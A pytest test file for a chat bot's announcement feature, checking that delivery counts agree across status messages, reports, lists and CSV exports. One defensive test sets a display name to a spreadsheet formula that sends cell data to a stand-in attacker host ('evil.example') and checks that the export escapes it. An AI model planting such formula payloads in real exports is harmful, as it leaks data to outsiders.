"""One meaning per count, the same in the status message, the report, the list and the CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from sqlmodel import Session, select

from adapters.runtime import Runtime
from bot.announcements import counting, service
from bot.announcements.models import Announcement, AnnouncementState
from bot.ports import FixedClock
from tests.announcements.helpers import (
    ADA,
    KENJI,
    LUCY,
    MARIA,
    UMA,
    button,
    click,
    compose,
    say,
    text_of,
    texts,
)
from tests.programmes.harness import RecordingSender, actor, run_until

AUDIENCE = "kenji@example.com, lucy@example.com, maria@example.com, zoe@example.com"  # Zoe never wrote


@pytest.fixture
def sender(runtime: Runtime, clock: FixedClock) -> RecordingSender:
    recording = RecordingSender(clock)
    runtime.dispatcher.senders["local"] = recording
    return recording


def status(sender: RecordingSender) -> str:
    return text_of([r for r in sender.to(ADA.user_id) if ":status:" in r.key][-1].message)


async def delivery(runtime: Runtime) -> dict[str, str]:
    (reply,) = await say(runtime, ADA, "announcement 1 csv")
    rows = csv.DictReader(io.StringIO(text_of(reply.message)))
    return {row["email"]: row["delivery"] for row in rows}


async def test_done_only_once_nothing_is_pending(
    runtime: Runtime, clock: FixedClock, sender: RecordingSender
) -> None:
    for who in (ADA, UMA, KENJI, LUCY, MARIA):
        await say(runtime, who, "hi")
    clock.at = datetime(2026, 11, 24, 23, 30, tzinfo=UTC)  # night for Kenji and Maria; Lucy just had a tip
    preview = await compose(runtime, ADA, audience_param=AUDIENCE)
    confirmed = await click(runtime, ADA, button(preview[0].message, "Confirm and send"))
    assert "goes to 4 people (1 unreachable for now)" in texts(confirmed)

    report = texts(await say(runtime, ADA, "announcement 1"))  # confirmed, not fanned out yet
    assert "(scheduled)" in report and "Pending: 3" in report and "Unreachable: 1" in report
    waiting = {
        "kenji@example.com": "pending",
        "lucy@example.com": "pending",
        "maria@example.com": "pending",
        "zoe@example.com": "unreachable",
    }
    assert await delivery(runtime) == waiting

    # The fan-out is complete; the three messages wait for a moment their recipients may be messaged.
    await run_until(runtime, clock, clock.now() + timedelta(minutes=2))
    now = status(sender)
    assert "(sending)" in now and "(done)" not in now
    assert "Sent: 0" in now and "Pending: 3" in now and "Unreachable: 1" in now
    assert "Cancel what has not gone" in str(sender.to(ADA.user_id)[-1].message)
    listed = texts(await say(runtime, ADA, "announcements"))
    assert "(sending): 0/4 sent, 3 pending, 1 unreachable" in listed
    assert await delivery(runtime) == waiting

    await run_until(runtime, clock, clock.now() + timedelta(days=1))
    final = status(sender)
    assert "(done)" in final and "Sent: 3" in final and "Pending: 0" in final and "Unreachable: 1" in final
    assert "(done)" in texts(await say(runtime, ADA, "announcement 1"))
    assert list((await delivery(runtime)).values()) == ["sent", "sent", "sent", "unreachable"]

    # Zoe writes to the coach at last, long after the status job stopped looking: hers goes, and the
    # author's status message says so (#13: it stayed "Unreachable: 1" for good).
    await say(runtime, actor("zoe@example.com", "Europe/London"), "hi")
    await run_until(runtime, clock, clock.now() + timedelta(days=1))
    late = status(sender)
    assert "(done)" in late and "Sent: 4" in late and "Pending: 0" in late and "Unreachable: 0" in late
    assert list((await delivery(runtime)).values()) == ["sent", "sent", "sent", "sent"]


async def test_names_from_profiles_cannot_become_spreadsheet_formulas(
    runtime: Runtime, sender: RecordingSender
) -> None:
    evil = actor("eve@example.com", "Europe/London")
    evil = type(evil)(**{**evil.__dict__, "display_name": '=HYPERLINK("https://evil.example/?"&A2,"Eve")'})
    await say(runtime, ADA, "hi")
    await say(runtime, evil, "hi")
    preview = await compose(runtime, ADA, audience_param="eve@example.com")
    await click(runtime, ADA, button(preview[0].message, "Confirm and send"))
    await runtime.run_due_work()
    (reply,) = await say(runtime, ADA, "announcement 1 csv")
    (row,) = csv.DictReader(io.StringIO(text_of(reply.message)))
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A2,"Eve")'


async def test_outbox_lines_name_the_person(runtime: Runtime, sender: RecordingSender) -> None:
    await say(runtime, ADA, "hi")
    preview = await compose(runtime, ADA, audience_param="zoe@example.com")
    await click(runtime, ADA, button(preview[0].message, "Confirm and send"))
    await runtime.run_due_work()
    shown = texts(await say(runtime, ADA, "outbox"))
    assert "unreachable announcement for zoe@example.com after 0 attempts" in shown
    assert "to none" not in shown


async def test_a_page_of_announcements_is_counted_as_each_one_is(
    runtime: Runtime, clock: FixedClock, sender: RecordingSender
) -> None:
    """The dashboard counts every announcement of its page at once (`counting.counts_of`, keys taken
    apart in SQL); the status messages to the author (`announcement:ID:status:N`) are no recipient's."""
    for who in (ADA, KENJI, LUCY):
        await say(runtime, who, "hi")
    for audience in (AUDIENCE, "kenji@example.com", "lucy@example.com, zoe@example.com"):
        preview = await compose(runtime, ADA, audience_param=audience)
        await click(runtime, ADA, button(preview[0].message, "Confirm and send"))
        await runtime.run_due_work()
    await run_until(runtime, clock, clock.now() + timedelta(days=1))

    def both(s: Session) -> tuple[dict[int, service.Counts], dict[int, service.Counts]]:
        found = s.exec(select(Announcement)).all()
        one_by_one = {a.id: service.counts(session=s, announcement=a) for a in found if a.id is not None}
        return counting.counts_of(session=s, announcements=found), one_by_one

    together, one_by_one = await runtime.store.read(both)
    assert len(together) == 3 and together == one_by_one
    assert (together[1].sent, together[1].unreachable, together[3].unreachable) == (2, 2, 1)


@pytest.mark.parametrize(
    ("state", "pending", "shown"),
    [
        (AnnouncementState.scheduled, 0, "scheduled"),
        (AnnouncementState.sending, 0, "sending"),  # the fan-out is still walking the audience
        (AnnouncementState.done, 2, "sending"),  # fanned out; two wait for their working hours
        (AnnouncementState.done, 0, "done"),
        (AnnouncementState.cancelled, 0, "cancelled"),
    ],
)
def test_the_state_shown_is_done_only_when_nothing_is_left_to_go(
    state: AnnouncementState, pending: int, shown: str
) -> None:
    counts = service.Counts(recipients=3, pending=pending, sent=3 - pending, failed=0, unreachable=0,
                            cancelled=0, acknowledged=0, questions=0)  # fmt: skip
    announcement = Announcement(title="t", body="b", audience_kind="everyone", state=state,
                                created_at=datetime(2026, 11, 23, tzinfo=UTC))  # fmt: skip
    assert service.progress(announcement, counts) == shown
